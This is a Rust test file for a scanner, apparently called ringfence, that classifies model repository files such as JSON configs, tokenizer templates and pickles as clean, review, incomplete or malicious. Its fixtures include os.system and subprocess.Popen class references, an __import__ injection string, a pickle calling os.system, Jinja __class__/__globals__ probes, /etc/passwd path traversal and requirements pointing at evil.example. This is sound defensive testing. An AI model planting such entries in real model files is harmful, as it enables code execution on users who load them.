//! Room `model`, formats `json` and `text`, tests: ordinary files of repositories are clean, what names code is not.

use std::sync::Arc;

use ringfence_artifact::Slice;
use ringfence_artifact::Source;
use ringfence_finding::GapReason;
use ringfence_finding::Verdict;

use crate::Limits;
use crate::Policy;

fn verdict(name: &str, text: &str) -> (Verdict, Vec<u16>) {
    let source: Arc<dyn Source> = Arc::new(Slice::new(text.as_bytes()));
    let file = crate::judge(name, &source, Policy::embedded(), &Limits::default());
    (file.verdict, file.findings.iter().map(|finding| finding.id.number).collect())
}

#[test]
fn what_stands_beside_weights_is_clean() {
    for (name, text) in [
        ("config.json", r#"{"architectures": ["LlamaForCausalLM"], "hidden_size": 4096, "auto_map": {}}"#),
        ("a/tokenizer.json", r#"{"model": {"vocab": {"a": 0, "größe": 1}, "merges": ["a b"]}}"#),
        (
            "adapter_config.json",
            r#"{"auto_mapping": {"base_model_class": "B", "parent_library": "transformers.models.bert"},
                "megatron_core": "megatron.core"}"#,
        ),
        ("config.json", r#"{"activation_function": "gelu_new", "_class_name": "U", "types": ["A", "B"]}"#),
        ("2_Dense/config.json", r#"{"activation_function": "torch.nn.modules.activation.Tanh"}"#),
        (
            "model_index.json",
            r#"{"_class_name": "StableDiffusionPipeline", "unet": ["diffusers", "UNet2DConditionModel"],
                "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"], "x": [null, null]}"#,
        ),
        (
            "config.json",
            r#"{"_attn_implementation": "sdpa", "vision_config": {"attn_implementation": {"": "eager"}}}"#,
        ),
        ("tokenizer_config.json", r#"{"tokenizer_class": "LlamaTokenizer", "target": "en", "params": {}}"#),
        (
            "wordembedding_config.json",
            r#"{"tokenizer_class": "sentence_transformers.models.tokenizer.WhitespaceTokenizer.WhitespaceTokenizer"}"#,
        ),
        (
            "router_config.json",
            r#"{"types": {"query_0_IDF": "sentence_transformers.sparse_encoder.models.SparseStaticEmbedding.SparseStaticEmbedding"},
                "structure": {"query": ["query_0_IDF"]}, "parameters": {"default_route": "document"}}"#,
        ),
        ("schema.json", r#"{"types": {"a": "b.c"}, "columns": {"types": {"x": "datetime.date"}}}"#),
        (
            "modular_model_index.json",
            r#"{"_blocks_class_name": "SequentialPipelineBlocks", "unet": [null, null, {"repo": "a/b", "subfolder": "unet",
                "type_hint": ["diffusers", "UNet2DConditionModel"], "variant": null}],
                "scheduler": ["diffusers", "EulerDiscreteScheduler", {"repo": "a/b"}]}"#,
        ),
        (
            "files.json",
            r#"[{"type": "file", "path": "a.bin"}, {"type": "application/vnd.x+json", "path": "b"}]"#,
        ),
        ("model.safetensors.index.json", r#"{"weight_map": {"a": "model-00001-of-00002.safetensors"}}"#),
        ("README.md", "---\nlicense: mit\n---\n# A model\n"),
        ("merges.txt", "#version: 0.2\na b\n"),
        (
            "tokenizer_config.json",
            r#"{"special_tokens_map_file": "/root/x.json", "vocab_file": "spiece.model"}"#,
        ),
        ("config.json", r#"{"trust_remote_code": false, "price": "$1.50", "home": "$HOME"}"#),
        ("tokenizer.json", r#"{"model": {"vocab": {"$(": 1, "$.": 2}, "merges": ["$ (", "$ ["]}}"#),
        ("2_Dense/config.json", r#"{"activation_function": "torch.nn.modules.activation.Tanh"}"#),
        (
            "plans.json",
            r#"{"network_class_name": "dynamic_network_architectures.architectures.unet.PlainConvUNet",
                "arch_kwargs": {"conv_op": "torch.nn.modules.conv.Conv3d"}, "_kw_requires_import": ["conv_op"]}"#,
        ),
        ("vocab.txt", "[PAD]\n[UNK]\n##s\n"),
        ("LICENSE", "Permission is granted.\n"),
        ("requirements.txt", "# see https://pytorch.org\ntorch>=2.1\nnumpy==2.0 ; python_version > '3.9'\n"),
    ] {
        assert_eq!(verdict(name, text), (Verdict::Clean, vec![]), "{name}");
    }
}

#[test]
fn what_names_code_is_review_and_what_is_not_read_incomplete() {
    let map = r#"{"auto_map": {"AutoModel": "modeling_x.X"}}"#;
    assert_eq!(verdict("config.json", map), (Verdict::Review, vec![149]));
    assert_eq!(
        verdict("model.yaml.json", r#"{"a": [{"_target_": "os.system"}]}"#),
        (Verdict::Review, vec![149])
    );
    assert_eq!(verdict("config.json", r#"{"a": 1, "a": 2}"#), (Verdict::Review, vec![147]));
    for (name, text) in [
        (
            "adapter_config.json",
            r#"{"auto_mapping": {"base_model_class": "system", "parent_library": "os"}}"#,
        ),
        ("adapter_config.json", r#"{"megatron_config": {"a": 1}, "megatron_core": "evil"}"#),
        ("modules.json", r#"[{"idx": 0, "name": "0", "path": "", "type": "evil_pkg.Model"}]"#),
        ("config.json", r#"{"sentence_transformers": {"activation_fn": "evil.Popen"}}"#),
        ("generation_config.json", r#"{"custom_generate": "evil/repo"}"#),
        ("model_index.json", r#"{"_class_name": "P", "unet": ["evil", "Evil"]}"#),
        ("a/model_index.json", r#"{"_class_name": ["pipeline", "P"]}"#),
        ("config.json", r#"{"_attn_implementation_internal": "evil/kernel"}"#),
        ("config.json", r#"{"text_config": {"attn_implementation": {"": "evil/kernel:attend"}}}"#),
        ("modules.json", r#"[{"path": "", "type": "evil.Model"}]"#),
        ("router_config.json", r#"{"types": {"query": "evil.Model"}, "structure": {}}"#),
        // The classes are imported before the structure is missed.
        ("a/router_config.json", r#"{"types": {"query": "evil.Model"}}"#),
        ("1_Router/config.json", r#"{"types": {"query": "evil.Model"}}"#),
        ("other.json", r#"{"types": {"query": "evil.Model"}, "structure": {"query": ["query"]}}"#),
        ("wordembedding_config.json", r#"{"tokenizer_class": "evil.Words"}"#),
        ("modular_model_index.json", r#"{"unet": ["evil", "Evil", {"repo": "a/b"}]}"#),
        ("modular_model_index.json", r#"{"unet": [null, null, {"type_hint": ["evil", "Evil"]}]}"#),
        (
            "genai_config.json",
            r#"{"model": {"decoder": {"session_options": {"custom_ops_library": "evil.so"}}}}"#,
        ),
        ("config.json", r#"{"model": {"target": "os.system", "params": {"command": "echo hi"}}}"#),
        ("config.json", r#"{"class_path": "subprocess.Popen", "init_args": {"args": ["echo"]}}"#),
        ("config.json", r#"{"model": {"class_path": "evil.Model"}}"#),
        ("config.json", r#"{"model": {"target": "evil.Model"}}"#),
        ("config.json", r#"{"backbone": "evil/repo", "backbone_kwargs": {"trust_remote_code": true}}"#),
        ("2_Dense/config.json", r#"{"activation_function": "torch.distributed.run.main"}"#),
        ("modules.json", r#"[{"idx": 0, "path": "x.pkl", "type": "sentence_transformers.util.torch"}]"#),
        (
            "genai_config.json",
            r#"{"model": {"decoder": {"session_options": {"provider_options": [{"qnn": {"backend_path": "evil.so"}}]}}}}"#,
        ),
        ("prompt.json", r#"{"template_format": "jinja2", "template": "{{ a }}"}"#),
        ("prompt.json", r#"{"lc": 1, "type": "constructor", "id": ["evil", "Cls"], "kwargs": {}}"#),
        ("cfg.json", r#"{"custom_imports": {"imports": ["evil"]}}"#),
        ("cfg.json", r#"{"_base_": "/tmp/evil.py"}"#),
        ("inference.json", r#"{"x": "$__import__('os').system('echo hi')"}"#),
        ("inference.json", r#"{"imports": "$import os"}"#),
        ("predictor.json", r#"{"__kind__": "instance", "class": "os.system", "args": ["echo hi"]}"#),
        ("plans.json", r#"{"architecture": {"network_class_name": "evil.Net", "arch_kwargs": {}}}"#),
        ("plans.json", r#"{"arch_kwargs": {"conv_op": "evil.Conv"}, "_kw_requires_import": ["conv_op"]}"#),
    ] {
        assert_eq!(verdict(name, text), (Verdict::Review, vec![149]), "{text}");
    }
    let elsewhere = r#"{"vocab_file": "/etc/passwd"}"#;
    assert_eq!(verdict("tokenizer_config.json", elsewhere), (Verdict::Review, vec![145]));
    for file in ["../../x.bin", "/etc/passwd", r"C:\\x", "https://a/b"] {
        let index = format!(r#"{{"weight_map": {{"a": "model-1.safetensors", "b": "{file}"}}}}"#);
        assert_eq!(verdict("model.safetensors.index.json", &index), (Verdict::Malicious, vec![145]));
    }
    for (name, text) in [
        ("modules.json", r#"[{"idx": 0, "path": "../x", "type": "sentence_transformers.models.Pooling"}]"#),
        ("genai_config.json", r#"{"session_options": {"enable_profiling": "/tmp/x"}}"#),
    ] {
        assert_eq!(verdict(name, text), (Verdict::Malicious, vec![145]), "{text}");
    }
    for (name, text) in [
        ("data", r#"{"policy_class": {":type:": "<class 'abc.ABCMeta'>", ":serialized:": "gAQu"}}"#),
        ("model.json", r#"{"format": "graph-model", "weightsManifest": [{"paths": ["../x"]}]}"#),
        ("tokenizer_config.json", r#"{"chat_template": 7}"#),
        ("state.json", r#"{"py/repr": "os/os.system('echo hi')"}"#),
        ("modeling.py", "import os\n"),
        ("config.json", r#"{"a": 1"#),
        ("config.json", "{} x"),
        ("config.yaml", "a: 1\n"),
        ("README.md", "a\u{1b}[2J\n"),
        // A template by its first letters, and a script by its name.
        ("modeling.py", "{#\n0: print('acts'), #}\n}\n"),
        ("run.sh", "{# #}\necho acts\n"),
        ("requirements.txt", "torch\n--index-url http://evil.example/simple\n"),
        ("a/requirements-gpu.txt", "evil @ git+https://evil.example/evil.git"),
        ("CMakeLists.txt", "execute_process(COMMAND echo acts)\n"),
        ("page.html", "{# #}<script>alert(1)</script>"),
        ("run.sh", r#"["$(echo acts)"]"#),
        ("Makefile", "{# #}\n"),
    ] {
        assert_eq!(verdict(name, text).0, Verdict::Incomplete, "{name}");
    }
    // Content decides: a pickle in a file of prose is a pickle.
    assert_eq!(verdict("README.md", "cos\nsystem\n(S'echo hi'\ntR.").0, Verdict::Malicious);
}

#[test]
fn text_of_another_encoding_is_no_data_of_a_model() {
    for (bytes, is_text) in [
        (&b"# -*- coding: latin-1 -*-\n# caf\xe9\nprint('acts')\n"[..], true),
        (&b"#\x01\nprint('acts')"[..], true),
        (&b"\x00\x00\x80\x3f\x00\x00\x00\x40abcd"[..], false),
    ] {
        let source: Arc<dyn Source> = Arc::new(Slice::new(bytes));
        let file = crate::judge("weights", &source, Policy::embedded(), &Limits::default());
        let unknown = file.gaps.iter().any(|gap| gap.reason == GapReason::UnknownFormat);
        assert_eq!((file.verdict, unknown), (Verdict::Incomplete, !is_text), "{file:?}");
    }
}

#[test]
fn what_is_a_pickle_too_is_no_less_what_its_name_has_it_read_as() {
    // A shell and Python run the first line; for pickle these are texts that are thrown away.
    let both = "V=1;echo ran\nV=1\n0.";
    for name in ["data.pkl", "weights", "model.bin", "a/model.pt", "DATA.P"] {
        assert_eq!(verdict(name, both).0, Verdict::Clean, "{name}");
    }
    for name in [
        "modeling_x.py",
        "run.sh",
        "site.pth",
        "x.js",
        "page.html",
        "Makefile",
        "a/Dockerfile",
        "setup.cfg",
        ".profile",
        "chat_template.j2",
        "chat_template.jinja2",
        "x.unknown",
    ] {
        assert_eq!(verdict(name, both).0, Verdict::Incomplete, "{name}");
    }
    // A shell passes over what it does not understand; torch names what it writes `.pth`, and Python reads that as text.
    let bytes = b"\x80\x02X\x0a\0\0\0\necho ran\n.";
    for (name, expected) in
        [("run.sh", Verdict::Incomplete), ("net.pth", Verdict::Clean), ("x.cfg", Verdict::Clean)]
    {
        let source: Arc<dyn Source> = Arc::new(Slice::new(bytes.as_slice()));
        let file = crate::judge(name, &source, Policy::embedded(), &Limits::default());
        assert_eq!(file.verdict, expected, "{name}: {file:?}");
    }
}

#[test]
fn templates_of_a_configuration_are_read_and_their_bytes_are_those_of_the_file() {
    let evil = "{{ ''.__class__ }}";
    let list = format!(
        r#"{{"chat_template": [{{"name": "default", "template": "a {{{{ x }}}}"}}, {{"name": "tool", "template": "é{evil}"}}]}}"#
    );
    for (name, text) in [
        ("tokenizer_config.json", format!(r#"{{"chat_template": "\n\u00e9{evil}"}}"#)),
        ("processor_config.json", format!(r#"{{"a": {{"chat_template": "{evil}"}}}}"#)),
        ("chat_template.json", list),
        ("chat_template.jinja", format!("hello {evil}")),
        ("additional_chat_templates/rag.jinja", evil.to_owned()),
        ("notes.txt", format!("{{# a #}}{evil}")),
        ("chat_template.txt", format!("Hello {evil}")),
    ] {
        let source: Arc<dyn Source> = Arc::new(Slice::new(text.as_bytes()));
        let file = crate::judge(name, &source, Policy::embedded(), &Limits::default());
        assert_eq!((file.verdict, file.explained), (Verdict::Malicious, file.bytes), "{name}: {file:#?}");
        let at = usize::try_from(file.findings[0].place.offset).unwrap();
        assert_eq!(text.find("''").unwrap(), at, "{name}");
    }
    for (text, at) in [
        (r#"{"extra_special_tokens": {"foo": "__globals__"}}"#, "\"__glo"),
        (r#"{"additional_special_tokens": ["<s>", {"content": "__globals__"}]}"#, "{\"content"),
        (r#"{"bos_token": "__globals__"}"#, "\"__glo"),
    ] {
        assert_eq!(verdict("tokenizer_config.json", text), (Verdict::Review, vec![146]), "{text}");
        let source: Arc<dyn Source> = Arc::new(Slice::new(text.as_bytes()));
        let finding = &crate::judge("tokenizer_config.json", &source, Policy::embedded(), &Limits::default())
            .findings[0];
        assert_eq!(finding.place.offset, text.find(at).unwrap() as u64, "{text}");
        assert!(finding.message.starts_with("hands __globals__, a name of the interpreter"), "{finding:?}");
    }
    let languages = r#"{"additional_special_tokens": ["__en__", "__de__"], "bos_token": {"content": "<s>"}}"#;
    assert_eq!(verdict("special_tokens_map.json", languages), (Verdict::Clean, vec![]));
    for (name, text) in [
        (
            "tokenizer_config.json",
            r#"{"chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}"}"#,
        ),
        ("tokenizer_config.json", r#"{"chat_template": [{"name": "a", "template": "{{ bos_token }}"}]}"#),
        ("chat_template.jinja", "{{ bos_token }}"),
        ("chat_template.jinja", "[plain] text"),
    ] {
        assert_eq!(verdict(name, text), (Verdict::Clean, vec![]), "{text}");
    }
}
